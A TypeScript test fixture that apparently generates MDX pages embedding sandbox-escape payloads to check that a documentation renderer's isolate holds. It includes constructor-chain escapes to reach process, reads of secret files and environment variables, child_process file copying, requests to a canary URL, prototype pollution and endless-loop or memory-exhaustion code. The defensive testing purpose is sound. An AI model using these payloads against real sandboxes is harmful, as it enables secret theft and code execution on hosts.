/** Author code that tries to escape its isolate, in every part of a page where the format allows code. */

/** Resources that reveal an escape when they are read, written or called. */
export interface Canaries {
  /** Name of an environment variable that holds a secret. */
  variable: string
  /** A file outside of the docs folder that holds a secret. */
  secretFile: string
  /** Path of a file that must never be created. */
  written: string
  /** URL of a server that must not receive requests. */
  url: string
}

/** Expressions that try to reach host objects or a function that compiles code from strings. */
const REACHES = [
  'process',
  'globalThis.process',
  'global.process',
  `this.constructor.constructor('return process')()`,
  `globalThis.constructor.constructor('return process')()`,
  `(() => {}).constructor('return process')()`,
  `[].filter.constructor('return process')()`,
  `''.sub.constructor('return process')()`,
  `(async () => {}).constructor('return process')()`,
  `(function* () {}).constructor('return process')().next().value`,
  `(async function* () {}).constructor('return process')()`,
  `Reflect.construct(Function, ['return process'])()`,
  `Reflect.apply(Function, null, ['return process'])()`,
  `new Error().constructor.constructor('return process')()`,
  `React.createElement.constructor('return process')()`,
  `React.useState.constructor.constructor('return process')()`,
  `Function('return this')().process`,
  `new Function('return globalThis')()['pro' + 'cess']`,
  `eval('process')`,
  `(0, eval)('this').process`,
  `Object.getPrototypeOf(async function* () {}).constructor('return process')()`,
  `new Proxy(Function, {}).prototype.constructor('return process')()`,
  `({ __proto__: { get a() { return Function('return process')() } } }).a`,
  `Symbol.for('nodejs.util.inspect.custom').constructor.constructor('return process')()`,
  `(() => { const old = Error.prepareStackTrace; Error.prepareStackTrace = (_, sites) => sites; const s = new Error().stack; Error.prepareStackTrace = old; return s.at(-1).getThis().process })()`,
  `(() => { try { null.x } catch (e) { return e.constructor.constructor('return process')() } })()`,
  `(() => { try { (function f() { f() })() } catch (e) { return e.constructor.constructor('return process')() } })()`,
]

function sinks({ variable, secretFile, written, url }: Canaries): string[] {
  const [secret, file, address] = [secretFile, written, url].map((text) => JSON.stringify(text))
  return [
    `.env.${variable}`,
    `.mainModule.require('fs').writeFileSync(${file}, 'x')`,
    `.getBuiltinModule('node:fs').readFileSync(${secret}, 'utf8')`,
    `.getBuiltinModule('node:child_process').execFileSync('/bin/cp', [${secret}, ${file}])`,
    `.getBuiltinModule('node:http').get(${address})`,
  ]
}

/** Escapes that are complete expressions and are not combined with `REACHES`. */
function others({ secretFile, written, url }: Canaries): string[] {
  const [secret, file, address] = [secretFile, written, url].map((text) => JSON.stringify(text))
  return [
    `require('fs').readFileSync(${secret}, 'utf8')`,
    `require('node:fs').writeFileSync(${file}, 'x')`,
    `module.constructor._load('fs').writeFileSync(${file}, 'x')`,
    `import('node:fs').then((fs) => fs.writeFileSync(${file}, 'x'))`,
    `Function('return import("node:fs")')().then((fs) => fs.writeFileSync(${file}, 'x'))`,
    `import.meta.url`,
    `fetch(${address})`,
    `new XMLHttpRequest().open('GET', ${address})`,
    `new WebSocket(${address})`,
    `new Worker(${address})`,
    `importScripts(${address})`,
    `navigator.sendBeacon(${address})`,
    `new Image().src = ${address}`,
    `Deno.readTextFileSync(${secret})`,
    `Bun.file(${secret})`,
    `new WebAssembly.Module(new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0])).constructor.constructor('return process')()`,
    `new SharedArrayBuffer(8).constructor.constructor('return process')()`,
    `octavoRender.constructor('return process')()`,
    `Object.getOwnPropertyNames(globalThis).map((n) => { try { return globalThis[n].applySync } catch { return null } }).filter(Boolean).length`,
    `({ toString() { return Function('return process')().env.PATH } })`,
    `({ [Symbol.toPrimitive]() { return process.pid } })`,
    `({ then(resolve) { resolve(Function('return process')()) } })`,
    `({ toJSON() { return process.env } })`,
    `new Proxy({}, { get(_, name) { if (name === 'constructor') return Function; throw new Proxy(new Error('x'), { get() { return process.env } }) } })`,
    `(() => { throw { get message() { return require('fs').readFileSync(${secret}, 'utf8') }, get stack() { return process.env } } })()`,
    `(() => { throw new Proxy({}, { get() { throw 1 }, getPrototypeOf() { throw 2 } }) })()`,
    `(() => { throw null })()`,
    `(() => { Object.prototype.html = '<i>polluted</i>'; Object.prototype.file = ${secret}; Object.prototype.toJSON = () => ({ html: 'polluted' }); return 'p' })()`,
    `(() => { Array.prototype.push = Array.prototype.map = () => { throw new Error('polluted') }; return 'p' })()`,
    `(() => { JSON.stringify = () => '{"kind":"done","html":"polluted"}'; return 'p' })()`,
    `(() => { String.prototype.replace = () => 'polluted'; RegExp.prototype.exec = () => ['polluted']; return 'p' })()`,
    `(() => { Object.defineProperty(Object.prototype, 'type', { get() { return 'script' } }); return 'p' })()`,
    `(() => { globalThis.React = null; globalThis.JSON = null; globalThis.Object = null; return 'p' })()`,
    `{ __html: '<i>x</i>', type: 'script', props: { children: 'x' }, key: null, ref: null, constructor: undefined }`,
  ]
}

/** Ways to embed code in a page, each returning the page body and any files it imports. */
const PLACES: ((code: string, name: string) => { body: string; more?: Record<string, string> })[] = [
  (code) => ({ body: `{${code}}` }),
  (code) => ({ body: `Text {String(${code})} goes on.` }),
  (code) => ({ body: `<div title={${code}}>inside</div>` }),
  (code) => ({ body: `<Card title={${code}} href={${code}}>inside</Card>` }),
  (code) => ({ body: `export const taken = ${code}\n\n{taken}` }),
  (code) => ({ body: `export const Taker = () => <b>{${code}}</b>\n\n<Taker />` }),
  (code) => ({ body: `<div {...(${code})}>inside</div>` }),
  (code) => ({ body: `<div style={{ color: ${code} }}>inside</div>` }),
  (code, name) => ({
    body: `import { Taken } from '/snippets/${name}.jsx'\n\n<Taken />`,
    more: { [`snippets/${name}.jsx`]: `export const Taken = () => <b>{String(${code})}</b>\n` },
  }),
  (code, name) => ({
    body: `import Taken from '/snippets/${name}.mdx'\n\n<Taken word={${code}} />`,
    more: { [`snippets/${name}.mdx`]: `Snippet {word} and {${code}}\n` },
  }),
]

/** Creates pages from every `every`-th attack. Each starts and ends with a paragraph that must survive. */
export function codePages(
  canaries: Canaries,
  every: number,
): { pages: string[]; files: Record<string, string> } {
  const ends = sinks(canaries)
  const all = [...REACHES.flatMap((reach) => ends.map((end) => reach + end)), ...others(canaries)]
  const files: Record<string, string> = {}
  const codes = all.filter((_, index) => index % every === 0)
  const pages = codes.map((code, index) => {
    const name = `code-${index}`
    const place = PLACES[index % PLACES.length] as (typeof PLACES)[number]
    const { body, more } = place(code.startsWith('{') ? `(${code})` : code, name)
    Object.assign(files, more)
    files[`${name}.mdx`] = `---\ntitle: ${name}\n---\n\nFirst words.\n\n${body}\n\nLast words.\n`
    return name
  })
  return { pages, files }
}

/** Code that never ends or uses up all memory. Each takes its child process a second or more. */
export const ENDLESS = [
  'while (true) {}',
  'const f = () => Promise.resolve().then(f); f(); return "micro"',
  'const all = []; while (true) all.push(new Array(1e6).fill("x"))',
  '/^(a+)+$/.test("a".repeat(50) + "!")',
  'let s = "x"; while (true) s += s',
  'const f = () => f() + f(); try { f() } catch { while (true) {} }',
  'Atomics.wait(new Int32Array(new SharedArrayBuffer(8)), 0, 0)',
  'const buffers = []; for (;;) buffers.push(new ArrayBuffer(64 << 20))',
]
